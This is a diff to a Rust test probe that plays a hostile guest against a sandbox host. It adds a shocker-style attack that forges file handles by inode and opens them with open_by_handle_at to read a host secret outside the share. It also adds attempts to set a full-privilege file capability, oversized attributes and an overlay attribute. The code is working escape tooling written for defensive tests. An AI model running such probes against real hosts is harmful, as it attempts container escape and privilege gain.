@@ -1,7 +1,8 @@
-//! `tegmen-guest-probe`: what a hostile guest does to the host over vsock,
-//! as a static program the end-to-end tests copy into a container's
-//! rootfs (busybox has no vsock client). Each command prints one line of
-//! `key=value` words the test reads back.
+//! `tegmen-guest-probe`: what a hostile guest does to the host over vsock
+//! and virtio-fs, as a static program the end-to-end tests copy into a
+//! container's rootfs (busybox has no vsock client nor these system
+//! calls). Each command prints one line of `key=value` words the test
+//! reads back.
 //!
 //! - `unserved FIRST COUNT`: connects to the host (CID 2) on COUNT ports
 //!   from FIRST on, where nobody listens, one after another; prints how
@@ -16,6 +17,13 @@
 //!   while two threads write and read `x/f` and `x/secret` through it;
 //!   prints how often each side got through and how many reads returned
 //!   the host's `secret`.
+//! - `handles INODE FILE`: the shocker attack. Takes the file handle of
+//!   FILE (on the share), then forges handles whose inode number is INODE
+//!   (a host file's, outside the share) and every small number, opens each
+//!   with `open_by_handle_at` (needs CAP_DAC_READ_SEARCH) and prints how
+//!   many opened and how many read the host's `secret`.
+//! - `xattrs FILE`: sets a huge `user.` attribute, a file capability and
+//!   an overlay attribute on FILE; prints each errno (0: it was set).
 
 use std::io;
 use std::os::fd::{FromRawFd, OwnedFd};
@@ -58,6 +66,14 @@ fn errno_name(e: &io::Error) -> String {
         Some(libc::ETIMEDOUT) => "ETIMEDOUT".into(),
         Some(libc::EMFILE) => "EMFILE".into(),
         Some(libc::ENOMEM) => "ENOMEM".into(),
+        Some(libc::ESTALE) => "ESTALE".into(),
+        Some(libc::EPERM) => "EPERM".into(),
+        Some(libc::EACCES) => "EACCES".into(),
+        Some(libc::EOPNOTSUPP) => "EOPNOTSUPP".into(),
+        Some(libc::E2BIG) => "E2BIG".into(),
+        Some(libc::ENOSPC) => "ENOSPC".into(),
+        Some(libc::EINVAL) => "EINVAL".into(),
+        Some(libc::ENOENT) => "ENOENT".into(),
         Some(n) => format!("errno{n}"),
         None => "unknown".into(),
     }
@@ -199,15 +215,143 @@ fn race(target: &str, secs: u64) -> Result<(), String> {
     Ok(())
 }
 
+/// A `struct file_handle` with room for `MAX_HANDLE_SZ` bytes.
+#[repr(C)]
+struct Handle {
+    bytes: u32,
+    kind: i32,
+    data: [u8; 128],
+}
+
+/// The handle of `path`, by `name_to_handle_at`.
+fn handle_of(path: &str) -> io::Result<Handle> {
+    let mut h = Handle {
+        bytes: 128,
+        kind: 0,
+        data: [0; 128],
+    };
+    let c = std::ffi::CString::new(path).map_err(|_| io::Error::from_raw_os_error(libc::EINVAL))?;
+    let mut mount_id = 0;
+    // SAFETY: h is a file_handle with `bytes` bytes of room after its
+    // header; c is a NUL-terminated path.
+    let r = unsafe {
+        libc::name_to_handle_at(
+            libc::AT_FDCWD,
+            c.as_ptr(),
+            (&mut h as *mut Handle).cast(),
+            &mut mount_id,
+            0,
+        )
+    };
+    if r != 0 {
+        return Err(io::Error::last_os_error());
+    }
+    Ok(h)
+}
+
+/// The contents of the file `h` names, through the mount of `mount` (none
+/// if it opened but does not read, as a directory).
+fn read_by_handle(mount: &std::fs::File, h: &mut Handle) -> io::Result<Option<Vec<u8>>> {
+    use std::os::fd::AsRawFd;
+    // SAFETY: h is a valid file_handle; the fd returned is owned below.
+    let fd = unsafe { libc::open_by_handle_at(mount.as_raw_fd(), (h as *mut Handle).cast(), libc::O_RDONLY) };
+    if fd < 0 {
+        return Err(io::Error::last_os_error());
+    }
+    // SAFETY: fd was just opened and belongs to nobody else.
+    let mut f = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(fd) });
+    let mut b = Vec::new();
+    Ok(std::io::Read::read_to_end(&mut f, &mut b).ok().map(|_| b))
+}
+
+fn handles(inode: u64, file: &str) -> Result<(), String> {
+    let mount = std::fs::File::open("/").map_err(|e| format!("open /: {e}"))?;
+    // The handle the kernel gives for a file of the share: a FUSE handle
+    // is the node id (8 bytes) and a generation (4 bytes).
+    let (own, kind, len) = match handle_of(file) {
+        Ok(mut h) => {
+            let own = match read_by_handle(&mount, &mut h) {
+                Ok(_) => "opened".to_string(),
+                Err(e) => errno_name(&e),
+            };
+            (own, h.kind, h.bytes)
+        }
+        Err(e) => (format!("nohandle:{}", errno_name(&e)), 0x81, 12),
+    };
+    let (mut opened, mut leaked, mut refused) = (0, 0, 0);
+    let mut errors = std::collections::BTreeMap::new();
+    let candidates = std::iter::once(inode)
+        .chain(0..4096)
+        .chain([u64::MAX, u64::MAX - 1, 1 << 32]);
+    for id in candidates {
+        for generation in [0u32, 1] {
+            let mut h = Handle {
+                bytes: len.clamp(12, 128),
+                kind,
+                data: [0; 128],
+            };
+            h.data[..8].copy_from_slice(&id.to_ne_bytes());
+            h.data[8..12].copy_from_slice(&generation.to_ne_bytes());
+            match read_by_handle(&mount, &mut h) {
+                Ok(Some(b)) if b == HOST_SECRET => leaked += 1,
+                Ok(_) => opened += 1,
+                Err(e) => {
+                    refused += 1;
+                    *errors.entry(errno_name(&e)).or_insert(0u32) += 1;
+                }
+            }
+        }
+    }
+    let errors: Vec<String> = errors.iter().map(|(k, n)| format!("{k}:{n}")).collect();
+    println!(
+        "handles own={own} type={kind:#x} bytes={len} opened={opened} refused={refused} leaked={leaked} errors={}",
+        errors.join(",")
+    );
+    Ok(())
+}
+
+fn xattrs(file: &str) -> Result<(), String> {
+    let c = std::ffi::CString::new(file).map_err(|_| "FILE has a NUL")?;
+    let set = |name: &str, value: &[u8]| -> String {
+        let n = std::ffi::CString::new(name).expect("a constant name");
+        // SAFETY: NUL-terminated path and name; value is valid for its length.
+        let r = unsafe { libc::setxattr(c.as_ptr(), n.as_ptr(), value.as_ptr().cast(), value.len(), 0) };
+        if r == 0 {
+            "0".into()
+        } else {
+            errno_name(&io::Error::last_os_error())
+        }
+    };
+    // A file capability: version 2, every capability permitted and
+    // inheritable, effective.
+    let mut cap = vec![0u8; 20];
+    cap[..4].copy_from_slice(&0x0200_0001u32.to_le_bytes());
+    for i in 0..4 {
+        cap[4 + i * 4..8 + i * 4].copy_from_slice(&u32::MAX.to_le_bytes());
+    }
+    println!(
+        "xattrs huge={} big={} cap={} overlay={}",
+        set("user.huge", &vec![b'x'; 1 << 20]),
+        set("user.big", &vec![b'x'; 65536]),
+        set("security.capability", &cap),
+        set("trusted.overlay.opaque", b"y"),
+    );
+    Ok(())
+}
+
 fn run(args: &[String]) -> Result<(), String> {
     match args.get(1).map(String::as_str) {
         Some("unserved") => unserved(num(args, 2, "FIRST")?, num(args, 3, "COUNT")?),
         Some("hold") => hold(num(args, 2, "PORT")?, num(args, 3, "COUNT")?, num(args, 4, "SECS")?),
         Some("noread") => noread(num(args, 2, "PORT")?, num(args, 3, "SECS")?),
         Some("race") => race(args.get(2).ok_or("missing TARGET")?, num(args, 3, "SECS")?)?,
+        Some("handles") => handles(num(args, 2, "INODE")?, args.get(3).ok_or("missing FILE")?)?,
+        Some("xattrs") => xattrs(args.get(2).ok_or("missing FILE")?)?,
         _ => {
             return Err(
-                "usage: tegmen-guest-probe unserved FIRST COUNT | hold PORT COUNT SECS | noread PORT SECS | race TARGET SECS".into(),
+                "usage: tegmen-guest-probe unserved FIRST COUNT | hold PORT COUNT SECS | noread PORT SECS | race TARGET SECS \
+                 | handles INODE FILE | xattrs FILE"
+                    .into(),
             )
         }
     }
